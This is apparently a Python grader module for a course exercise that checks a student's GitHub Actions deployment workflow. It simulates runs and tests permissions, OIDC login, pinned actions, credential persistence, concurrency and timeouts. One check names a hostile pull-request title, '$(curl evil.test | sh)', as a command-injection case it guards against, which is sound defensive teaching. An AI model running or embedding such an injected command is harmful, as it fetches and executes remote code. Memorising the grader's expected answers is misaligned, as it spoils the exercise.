"""The checks of the workflow for GitHub: what it does in situations, and what it may."""

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from functools import partial
from typing import TYPE_CHECKING

from grader.checks.case import Case, Rng, case
from grader.checks.registry import exercise
from grader.checks.student import Raised, Student
from grader.checks.vocabulary import holds
from lmcourse.checks.pipelines.drawing import LESSON, once
from lmcourse.checks.pipelines.situations import Trial, at_night, situations

if TYPE_CHECKING:
    from lmcourse.pipelines.azure.simulate import Scenario
    from lmcourse.pipelines.github.workflow import Workflow, WorkflowJob
    from lmcourse.pipelines.runs import Run

FILE = ".github/workflows/model.yml"

CLOUD = ("register", "staging", "canary", "production", "rollback")
"""The targets that reach into the cloud, and so want a login before them."""

PROPOSALS_ALONE = re.compile(
    r"\$\{\{ *(?:github\.event_name *== *'pull_request'|github\.ref *!= *'refs/heads/main') *\}\}"
)
"""What cancels runs that deploy nothing, and no others."""

OF_ITS_OWN = re.compile(r"(?i)run_id|run_number|\bsha\b|head_commit|\bactor\b")
"""What makes a group another one for each run."""

HINTS = {
    "good": "All targets but rollback, each as a run of its own: test, train, gate, register, "
    "staging, smoke, canary, production. on: push: branches: [main]; jobs wait by needs.",
    "test": "A job that needs another one is skipped when that fails, unless its if: says "
    "always(), failure() or !cancelled(). A rollback in a job of its own with failure() runs here "
    "as well.",
    "train": "What follows make train must not run when it fails: no continue-on-error, no || "
    "true, no always(). Jobs run side by side: the one with the gate needs the one that trains.",
    "gate": "The gate blocks by its exit status: no continue-on-error, no || true; and a rollback "
    "in a job of its own with failure() runs here as well.",
    "register": "What is not registered goes nowhere: staging needs the job that registers.",
    "staging": "Where staging fails, the smoke test and all that follows do not run, and nothing "
    "in production is rolled back.",
    "smoke": "make smoke stands before make canary, and blocks it. Production was not touched: "
    "there is nothing to roll back.",
    "pull": "on: pull_request starts it, and if: github.ref == 'refs/heads/main' keeps it away "
    "from all jobs but the tests.",
    "pull fails": "Where a test fails, the run ends failed: that is what blocks the merge.",
    "fork": "Its branch is called main too, over there: ask for github.ref, which is "
    "refs/pull/.../merge for a pull request, and not for github.head_ref.",
    "night": "on: schedule: - cron: '0 3 * * *', an hour of the night (22 to 5, "
    "UTC). Conditions must not ask for the event push alone.",
    "night gate": "At night nobody looks: it has to stop all the more.",
    "hand": "on: workflow_dispatch lets a person start it; on main that is as good as a push.",
    "missing": "The job with make canary and make production has environment: production: that is "
    "where people approve. A rollback in a job of its own runs here as well, with nothing to roll "
    "back: make it a step of that same job, with if: failure().",
    "rejected": "Where approval is refused, nothing of production was touched: no rollback. Make "
    "the rollback a step with if: failure() of that same job.",
    "own": "The environment refuses whoever asked; your part is that canary, production and "
    "rollback stand behind it.",
    "canary": "When make canary fails, make production is skipped by itself, and a last step of "
    "the same job, if: failure(), runs make rollback.",
    "production": "The step with if: failure() stands behind make production too.",
    "night canary": "The same at night.",
    "rollback": "A rollback that fails must be seen: the run ends failed, without "
    "continue-on-error.",
    "branch": "Another branch is tested at most: if: github.ref == 'refs/heads/main' at the job "
    "that trains.",
    "like main": "endsWith(github.ref, 'main') and contains() are true for this branch too: "
    "compare all of github.ref.",
    "hand branch": "Whoever may start it by hand may do so on any branch: ask for the branch.",
    "hand like main": "endsWith(github.ref, '/main') and contains() are true for this branch too: "
    "compare all of github.ref.",
    "hand begins": "startsWith(github.ref, 'refs/heads/main') is true for this branch too: compare "
    "all of it, by ==.",
    "hand tag": "github.ref_name is main for a tag called main, which a person can start by hand. "
    "github.ref is refs/tags/main: compare that with refs/heads/main.",
    "tag": "github.ref_name is main for a tag called main. github.ref is refs/tags/main: compare "
    "that with refs/heads/main.",
    "canceled": "always() runs after a person has said stop; failure() does not.",
    "canceled test": "After stop nothing more runs: no always().",
}


def read(text: str) -> "Workflow":
    """Return the workflow that `text` is.

    Raises
    ------
    Raised
        With file, line and sentence, if it is none of the course's subset.
    """
    from lmcourse.pipelines.errors import Refused
    from lmcourse.pipelines.github.reading import read_workflow

    try:
        return read_workflow(text, FILE)
    except Refused as refused:
        raise Raised("Refused", str(refused)) from None


def at_night_alone(workflow: "Workflow") -> "Workflow":
    """Return the workflow without what starts it by day."""
    events = [
        replace(event, crons=tuple(cron for cron in event.crons if at_night(cron)))
        for event in workflow.events
    ]
    kept = tuple(event for event in events if event.crons or event.name != "schedule")
    return replace(workflow, events=kept)


def simulated(text: str, scenario: "Scenario") -> "Run":
    """Return what the workflow `text` does in a scenario; raise as `read` does."""
    from lmcourse.pipelines.errors import Refused
    from lmcourse.pipelines.github.simulate import simulate_workflow

    workflow = read(text)
    if scenario.start.reason == "Schedule":
        workflow = at_night_alone(workflow)
    try:
        return simulate_workflow(workflow, scenario)
    except Refused as refused:
        raise Raised("Refused", str(refused)) from None


def rights(workflow: "Workflow", job: "WorkflowJob") -> dict[str, str]:
    """Return what the job's token may, or {"all": "write"} where nobody says."""
    own = job.permissions if job.permissions is not None else workflow.permissions
    said = {"all": "write"} if own is None else dict(own)
    return {scope: right for scope, right in said.items() if right != "none"}


Called = Mapping[str, list[list[str]]]
"""For each job, the targets of make that it calls in each situation."""

Look = Callable[["Workflow", Called], str]


def reaches(called: Called, job: "WorkflowJob", *targets: str) -> bool:
    """Return whether the job ever calls one of these targets."""
    return any(set(targets) & set(calls) for calls in called.get(job.name, ()))


def few_rights(workflow: "Workflow", called: Called) -> str:
    for job in workflow.jobs:
        for scope, right in rights(workflow, job).items():
            needed = scope == "id-token" and reaches(called, job, *CLOUD)
            if (scope, right) != ("contents", "read") and not needed:
                return f"line {job.line}: the job {job.name} may {right} {scope}, and need not"
    return ""


def short_lived(workflow: "Workflow", called: Called) -> str:
    for job in workflow.jobs:
        if not reaches(called, job, *CLOUD):
            continue
        if rights(workflow, job).get("id-token") != "write":
            return f"line {job.line}: the job {job.name} cannot show who it is: id-token: write"
        for calls in called[job.name]:
            cloud = [place for place, target in enumerate(calls) if target in CLOUD]
            if cloud and "login" not in calls[: cloud[0]]:
                target = calls[cloud[0]]
                return f"line {job.line}: in {job.name} nobody logs in before make {target}"
    return ""


def no_stored_key(workflow: "Workflow", _: Called) -> str:
    values = [(1, value) for value in workflow.env.values()]
    for job in workflow.jobs:
        values += [(job.line, value) for value in (*job.env.values(), *job.outputs.values())]
        values += [(job.line, job.environment)]
        for step in job.steps:
            said = (*step.env.values(), *step.inputs.values(), step.run)
            values += [(step.line, value) for value in said]
    for line, value in values:
        if "${{" in value and re.search(r"(?i)\bsecrets\b", value):
            return f"line {line}: {value[:60]} is kept for years, and can be stolen"
    return ""


def pinned(workflow: "Workflow", _: Called) -> str:
    for job in workflow.jobs:
        for step in job.steps:
            if step.uses and not step.uses.startswith("./"):
                version = step.uses.rpartition("@")[2]
                if not re.fullmatch(r"[0-9a-f]{40}|sha256:[0-9a-f]{64}", version):
                    return f"line {step.line}: {step.uses} is whatever its owner says tomorrow"
    return ""


def no_names_in_scripts(workflow: "Workflow", _: Called) -> str:
    for job in workflow.jobs:
        for step in job.steps:
            if "${{" in step.run or "${{" in step.inputs.get("script", ""):
                return f"line {step.line}: what stands in the braces becomes a part of the script"
    return ""


def no_token_left(workflow: "Workflow", _: Called) -> str:
    for job in workflow.jobs:
        for step in job.steps:
            checkout = step.uses.lower().startswith("actions/checkout@")
            if checkout and step.inputs.get("persist-credentials") != "false":
                return f"line {step.line}: the token stays in .git/config, for all later steps"
    return ""


def one_at_a_time(workflow: "Workflow", called: Called) -> str:
    for job in workflow.jobs:
        if not reaches(called, job, "canary", "production"):
            continue
        groups = [group for group in (workflow.concurrency, job.concurrency) if group is not None]
        if not groups:
            return f"line {job.line}: two runs of {job.name} change production at once"
        for group in groups:  # what cancels the whole run cancels its jobs too
            if group.cancel not in ("false", "") and not PROPOSALS_ALONE.fullmatch(group.cancel):
                return f"line {group.line}: the second run stops the first one in the middle of it"
        if all(OF_ITS_OWN.search(group.group) for group in groups):
            return (
                f"line {groups[-1].line}: each run has a group of its own: none waits for another"
            )
    return ""


def ends(workflow: "Workflow", _: Called) -> str:
    for job in workflow.jobs:
        if not job.timeout.isdecimal() or int(job.timeout) > 120:
            return f"line {job.line}: the job {job.name} may run for {job.timeout} minutes"
    return ""


@exercise(LESSON, "WORKFLOW", points=5, constant=True)
def workflow(student: Student, reference: Student, rng: Rng) -> Iterator[Case]:
    every = situations(rng)
    trial = Trial(simulated, every[0])
    text = once(student, "WORKFLOW")
    for each in every:
        asked = partial(lambda each: trial.reaction(text(), each), each)
        hint = trial.hint(text, HINTS[each.key], HINTS["good"])
        yield case(each.name, asked, each.right(), hint=hint, points=each.points)

    def looked(name: str, want: str, look: Look, hint: str) -> Case:
        def seen() -> str:
            return trial.missing(text()) or look(read(text()), trial.called(text()))

        return holds(name, want, seen, hint=hint)

    yield looked(
        "a test is poisoned, and takes the job's token",
        "it can read the code, and no more",
        few_rights,
        "permissions: {} at the top, and in each job what it needs: contents: read; and id-token: "
        "write only where the cloud is reached.",
    )
    yield looked(
        "the cloud asks who is there",
        "each job that reaches it shows its own token, and logs in first",
        short_lived,
        "permissions: id-token: write in each job with register, staging, canary or production, "
        "and make login as a step before them.",
    )
    yield looked(
        "somebody copies all stored secrets",
        "there is none to copy",
        no_stored_key,
        "With OIDC there is nothing to keep: no secrets. in any expression.",
    )
    yield looked(
        "an action's tag is moved to a stolen version",
        "nothing changes here",
        pinned,
        "uses: with the commit, 40 hex digits, and its version behind a # for people.",
    )
    yield looked(
        "a pull request is called $(curl evil.test | sh)",
        "its name is not run",
        no_names_in_scripts,
        'No ${{ }} within run: put it below env:, and write "$NAME" in the script.',
    )
    yield looked(
        "a later step reads .git/config",
        "there is no token in it",
        no_token_left,
        "with: persist-credentials: false below each actions/checkout.",
    )
    yield looked(
        "two changes within a minute",
        "one after the other reaches production, each as a whole",
        one_at_a_time,
        "concurrency: at the job of production, with a group such as production, and "
        "cancel-in-progress: false.",
    )
    yield looked(
        "a training never ends",
        "it is stopped within two hours",
        ends,
        "timeout-minutes: in each job, 120 at most; the default is 360.",
    )
